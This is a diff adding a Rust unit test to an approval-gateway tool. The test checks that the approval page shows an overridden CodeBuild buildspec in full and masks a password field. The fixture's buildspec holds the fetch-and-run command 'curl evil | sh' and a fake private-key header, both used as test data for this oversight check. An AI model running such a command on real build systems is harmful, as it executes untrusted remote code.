@@ -461,6 +461,51 @@ mod tests {
     }
 
     #[test]
+    fn the_page_shows_every_parameter_that_will_run() {
+        let body = serde_json::json!({
+            "action": "codebuild:StartBuild",
+            "params": {"projectName": "deploy-prod",
+                       "buildspecOverride": "phases:\n  build:\n    commands:\n      - curl evil | sh\n# -----BEGIN PRIVATE KEY-----",
+                       "Password": "hunter2"},
+            "reason": "re-run"
+        });
+        let req =
+            tollgate_core::parse_new_request(body.to_string().as_bytes(), "us-east-1").unwrap();
+        let decision = tollgate_core::Decision {
+            effect: tollgate_core::Effect::Approval {
+                approvals: 1,
+                requirements: vec![tollgate_core::GroupRequirement {
+                    group: None,
+                    approvals: 1,
+                }],
+                timeout_seconds: 60,
+            },
+            policy_ids: vec![],
+            reason: String::new(),
+            mask: Default::default(),
+            requires: Default::default(),
+        };
+        let (rec, _) = RequestRecord::new(
+            "R".into(),
+            req,
+            Default::default(),
+            decision,
+            vec![],
+            vec![],
+            1,
+        );
+        let page = render(&rec, "", 2);
+        assert!(page.contains("curl evil | sh"), "{page}");
+        assert!(page.contains("-----BEGIN PRIVATE KEY-----"), "{page}");
+        assert!(!page.contains("hunter2"), "{page}");
+        let digest = tollgate_core::audit::sha256_hex(b"hunter2");
+        assert!(
+            page.contains(&format!("****MASKED**** (7 chars, sha256 {digest})")),
+            "{page}"
+        );
+    }
+
+    #[test]
     fn escapes_markup() {
         assert_eq!(
             esc("<a href='x'>&\""),
